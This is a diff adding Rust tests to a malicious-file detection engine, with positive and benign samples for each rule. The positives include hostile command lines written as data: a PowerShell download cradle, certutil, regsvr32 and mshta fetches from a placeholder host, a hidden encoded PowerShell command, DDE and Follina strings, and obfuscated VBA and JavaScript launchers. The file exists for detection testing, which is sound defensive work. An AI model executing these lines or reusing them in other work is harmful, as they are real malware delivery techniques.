@@ -68,3 +68,90 @@ fn wsh_downloader() {
     // Office VBA is the macro rule's business.
     assert!(!matches(&ole_doc_with_macros()).iter().any(|r| r == "WSH_Downloader_Or_Runner"));
 }
+
+#[test]
+fn office_exploits() {
+    check(
+        "Office_DDE_Command",
+        br#"<w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"</w:instrText>"#,
+        br#"<w:instrText>DDEAUTO is explained in the manual</w:instrText>"#,
+    );
+    check(
+        "Office_Remote_Template",
+        br#"<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://example.invalid/t.dotm" TargetMode="External"/>"#,
+        br#"<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="file:///C:/Modeles/Normal.dotm"/>"#,
+    );
+    check(
+        "Office_Follina_MSDT",
+        b"window.location.href = \"ms-msdt:/id PCWDiagnostic /skip force /param IT_BrowseForFile=x\"",
+        b"See the ms-msdt: documentation for support tools.",
+    );
+    check(
+        "RTF_Equation_Editor_Object",
+        b"{\\rtf1{\\object\\objemb{\\*\\objclass Equation.3}\\objdata 0105000002000000}}",
+        b"{\\rtf1 Equation.3 is an old editor.}",
+    );
+    check(
+        "RTF_Autoupdating_Object",
+        b"{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata 0105}}}",
+        b"{\\rtf1{\\object{\\*\\objdata 0105}}}",
+    );
+    check(
+        "Excel4_Macro_Sheet_Exec",
+        b"PK xl/macrosheets/sheet1.xml <c><f>EXEC(\"calc.exe\")</f></c>",
+        b"PK xl/worksheets/sheet1.xml <c><f>SUM(A1:A3)</f></c>",
+    );
+}
+
+#[test]
+fn powershell() {
+    check(
+        "PowerShell_Encoded_Command",
+        b"powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
+        b"powershell.exe -File C:\\scripts\\sauvegarde.ps1",
+    );
+    check(
+        "PowerShell_Download_Cradle",
+        b"IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a.ps1')",
+        b"Invoke-WebRequest -Uri https://www.ville-exemple.fr -OutFile page.html",
+    );
+}
+
+#[test]
+fn lolbins() {
+    check("LOLBin_Download_Or_Execute", b"certutil -urlcache -split -f http://example.invalid/a.exe a.exe", b"certutil -hashfile rapport.pdf SHA256");
+    check("LOLBin_Download_Or_Execute", b"regsvr32 /s /n /u /i:http://example.invalid/a.sct scrobj.dll", b"regsvr32 /s monpilote.dll");
+    check("LOLBin_Download_Or_Execute", b"mshta https://example.invalid/a.hta", b"mshta is a Windows program");
+}
+
+#[test]
+fn javascript() {
+    check("JS_Packed_Eval", b"eval(function(p,a,c,k,e,d){e=function(c){return c};return p}('0',1,1,'x'.split('|'),0,{}))", b"function sum(a, b) { return a + b; }");
+    check("JScript_ActiveX_Shell", b"var s = new ActiveXObject('WScript.Shell'); s.Run('calc');", b"var x = new XMLHttpRequest();");
+    let hex: String = (0..80).map(|i| format!("\\x{:02x}", 0x41 + i % 26)).collect();
+    let positive = format!("var p = \"{hex}\"; eval(p);");
+    let negative = format!("var p = \"{hex}\"; console.log(p.length);");
+    check("JS_Hex_Escaped_Eval", positive.as_bytes(), negative.as_bytes());
+}
+
+#[test]
+fn onenote_and_svg() {
+    let mut one = onenote();
+    one.extend_from_slice(b"\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac");
+    let clean = one.clone();
+    one.extend_from_slice(b"@echo off\r\nstart calc\r\n");
+    check("OneNote_Embedded_Script_Or_Program", &one, &clean);
+    let payload = "A".repeat(500);
+    let svg = format!("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>var d = atob('{payload}');</script></svg>");
+    let plain = format!("<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"data:image/png;base64,{payload}\"/></svg>");
+    check("SVG_Base64_Payload_Script", svg.as_bytes(), plain.as_bytes());
+}
+
+#[test]
+fn hta_and_vba() {
+    check("HTA_Script_Shell", b"<HTA:APPLICATION/><script>new ActiveXObject('WScript.Shell')</script>", b"<HTA:APPLICATION/><body>Bonjour</body>");
+    let chrs: String = (0..10).map(|i| format!("Chr({}) & ", 99 + i)).collect();
+    let obf = format!("Sub AutoOpen()\r\nx = {chrs}\"\"\r\nShell x\r\nEnd Sub");
+    check("VBA_String_Obfuscation", obf.as_bytes(), b"Sub Total()\r\nx = Chr(65) & \"B\"\r\nEnd Sub");
+}
+
